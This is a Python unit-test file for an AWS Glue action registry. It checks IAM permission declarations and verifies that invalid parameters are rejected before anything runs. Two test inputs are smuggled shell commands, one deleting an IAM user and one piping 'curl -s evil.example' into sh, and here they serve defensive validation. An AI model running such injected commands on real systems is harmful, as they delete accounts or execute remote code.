"""The action registry: every action declares what it needs; nothing runs on invalid parameters."""

from __future__ import annotations

import re

import pytest

import functions.actions  # noqa: F401 - registers every action
from functions.core.actions import REGISTRY, Params, UnknownAction, execute, spec_for
from functions.core.models import Action, ActionStatus
from functions.playbooks import PLAYBOOKS
from tests.unit.fakes import FakeGlue, FakePorts

IAM_ACTION = re.compile(r"^[a-z0-9-]+:[A-Z][A-Za-z0-9]+$")


def test_the_registry_is_not_empty() -> None:
    assert {"glue.restart_streaming_job", "glue.scale_streaming_job"} <= set(REGISTRY)


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_every_action_declares_iam_actions_resource_and_params(name: str) -> None:
    spec = REGISTRY[name]

    assert spec.name == name
    assert spec.iam_actions, f"{name} declares no IAM actions"
    assert all(IAM_ACTION.match(a) for a in spec.iam_actions), spec.iam_actions
    assert "*" not in "".join(spec.iam_actions)
    assert spec.resource_kind in {"glue_job", "redshift_cluster", "redshift_db_user", "msk_cluster", "s3_bucket"}
    assert issubclass(spec.params, Params) and spec.params is not Params
    assert spec.params.model_config.get("extra") == "forbid"
    assert spec.summary
    assert isinstance(spec.destructive, bool)


@pytest.mark.parametrize("playbook", sorted(PLAYBOOKS))
def test_every_action_a_playbook_plans_is_registered(playbook: str) -> None:
    for name in PLAYBOOKS[playbook].actions:
        assert name in REGISTRY


def test_the_scale_action_declares_the_reads_it_makes() -> None:
    # It lists runs to find the one to stop (GetJobRuns) and polls that run until it has stopped (GetJobRun):
    # both must be granted or it fails in AWS only.
    assert set(REGISTRY["glue.scale_streaming_job"].iam_actions) == {
        "glue:BatchStopJobRun", "glue:StartJobRun", "glue:GetJobRuns", "glue:GetJobRun"}
    assert REGISTRY["glue.restart_streaming_job"].iam_actions == ("glue:StartJobRun",)


@pytest.mark.parametrize(("name", "params"), [
    ("glue.restart_streaming_job", {}),
    ("glue.restart_streaming_job", {"job_name": "orders-stream; aws iam delete-user"}),
    ("glue.restart_streaming_job", {"job_name": "orders-stream", "force": True}),
    ("glue.scale_streaming_job", {"job_name": "orders-stream", "from_workers": 2, "to_workers": 1,
                                  "worker_type": "G.1X"}),
    ("glue.scale_streaming_job", {"job_name": "orders-stream", "to_workers": 4, "worker_type": "G.1X"}),
    ("glue.scale_streaming_job", {"job_name": "orders-stream", "from_workers": 2, "to_workers": 4,
                                  "worker_type": "G.1X; curl -s evil.example | sh"}),
])
def test_invalid_parameters_fail_and_nothing_runs(name: str, params: dict[str, object]) -> None:
    glue = FakeGlue()
    glue.add_job("orders-stream")
    running = glue.add_run("orders-stream", "RUNNING")

    result = execute(Action(name=name, target="glue:orders-stream", params=params, reason="r"), FakePorts(glue))

    assert result.status is ActionStatus.FAILED
    assert result.detail.startswith("invalid parameters: ")
    assert [r.id for r in glue.runs["orders-stream"]] == [running]
    assert glue.runs["orders-stream"][0].state == "RUNNING"


def test_an_unregistered_action_is_refused_by_name() -> None:
    with pytest.raises(UnknownAction, match=r"'glue\.delete_job' is not registered"):
        spec_for(Action(name="glue.delete_job", target="glue:orders-stream", reason="r"))


def test_scaling_a_stopped_job_just_starts_it_with_the_new_count() -> None:
    glue = FakeGlue()
    glue.add_job("orders-stream")
    action = Action(name="glue.scale_streaming_job", target="glue:orders-stream",
                    params={"job_name": "orders-stream", "from_workers": 2, "to_workers": 4,
                            "worker_type": "G.1X"}, reason="r")

    result = execute(action, FakePorts(glue))

    (run,) = glue.active_runs("orders-stream")
    assert (result.status, run.workers) == (ActionStatus.SUCCEEDED, 4)
    assert result.detail == f"stopped no run; started run {run.id} with 4 workers"
